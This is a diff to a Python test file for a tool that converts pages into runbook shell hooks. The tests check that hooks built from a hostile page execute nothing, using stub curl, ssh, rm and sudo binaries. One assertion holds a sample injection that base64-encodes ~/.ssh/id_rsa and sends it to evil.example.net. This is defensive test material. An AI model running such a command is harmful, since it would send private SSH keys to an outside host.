@@ -15,7 +15,9 @@ from tests.convert.conftest import PAGES, SAMPLE
 from tests.patience import patience
 
 from nvsx.convert import conversion
+from nvsx.follow.processes.nvsx_on_path import install_nvsx
 from nvsx.lint import linter
+from nvsx.notify.spool import read_calls
 
 if TYPE_CHECKING:
     from tests.convert.conftest import Project
@@ -49,11 +51,13 @@ def test_nothing_of_a_page_is_ever_run(project: Project, page: Path, tmp_path: P
     for name in ("curl", "kubectl", "rm", "reboot", "base64", "ssh", "sudo"):
         (tools / name).write_text(f"#!/bin/sh\necho {name} >>{tmp_path}/ran\n")
         (tools / name).chmod(0o755)
+    path = f"{tools}:{install_nvsx(tmp_path)}:{os.environ['PATH']}"
+    facts = {"NVSX_TARGET_NODE": "gpu-07", "NVSX_NOTIFY_DIR": str(tools)}
     said = ""
     for hook in sorted((project.root / "runbooks/hooks/page").glob("*.sh")):
         done = subprocess.run(
             [hook],
-            env={"PATH": f"{tools}:{os.environ['PATH']}", "NVSX_TARGET_NODE": "gpu-07"},
+            env={"PATH": path, **facts},
             capture_output=True,
             text=True,
             timeout=patience(30),
@@ -65,6 +69,7 @@ def test_nothing_of_a_page_is_ever_run(project: Project, page: Path, tmp_path: P
     if page.name == "adversarial.md":
         assert "$(curl https://evil.example.net/$(cat ~/.ssh/id_rsa | base64))" in said
         assert "$HOME, ${IFS}, \\n, %s, !! and 'single'" in said
+    assert "resolve" in {call.kind for _, call in read_calls(tools)}
 
 
 def test_windows_files_convert(project: Project, tmp_path: Path) -> None:
@@ -86,7 +91,7 @@ def test_shellcheck_finds_nothing_in_any_hook(
     """Hooks made of the hostile page, and of those with foreign typography, are clean shell."""
     assert linter.find_shellcheck()
     with monkeypatch.context() as quick:
-        quick.setattr("nvsx.lint.lint_hooks.find_shellcheck", lambda: None)
+        quick.setattr("nvsx.lint.shellcheck.find_shellcheck", lambda: None)
         for name in ("adversarial.md", "deutsch.md", "confluence.html"):
             slug = name.partition(".")[0]
             page = PAGES / name
@@ -213,15 +218,9 @@ def test_files_land_all_or_none(
     broken: str,
 ) -> None:
     """A full disk half-way leaves the project as it was."""
-    calls = 0
-    real = Path.rename
 
     def full(source: Path, target: Path) -> None:
-        nonlocal calls
-        calls += 1
-        if broken == "link" or calls == 2:
-            raise OSError(28, "No space left on device")
-        real(source, target)
+        raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(os if broken == "link" else Path, broken, full)
     before = project.files()
@@ -234,8 +233,8 @@ _KILLED = """
 import os, pathlib, signal, sys
 from nvsx.commands.main import main
 from nvsx.convert import project_writer as writer
-from nvsx.lint import lint_hooks
-lint_hooks.find_shellcheck = lambda: None
+from nvsx.lint import shellcheck
+shellcheck.find_shellcheck = lambda: None
 left = int(sys.argv[1])
 def dying(real):
     def step(*args, **kwargs):
@@ -251,7 +250,7 @@ main(sys.argv[2:])
 """
 
 
-@pytest.mark.parametrize("step", [1, 2, 3])
+@pytest.mark.parametrize("step", [1, 2])
 def test_a_conversion_that_is_killed_leaves_no_runbook_and_is_in_nobodys_way(
     project: Project, step: int
 ) -> None:
@@ -282,7 +281,7 @@ def test_the_mark_of_a_conversion_killed_at_its_very_end_goes_with_the_next(
     """kill -9 after the last file landed: the runbook is whole, and its marker does not stay."""
     command = ["--project", str(project.root), "convert", str(SAMPLE), "--offline", "--yes"]
     done = subprocess.run(
-        [sys.executable, "-c", _KILLED, "4", *command], capture_output=True, check=False
+        [sys.executable, "-c", _KILLED, "3", *command], capture_output=True, check=False
     )
     assert done.returncode == -signal.SIGKILL, done.stderr
     assert project.nvsx("lint", "sample-runbook") == 0
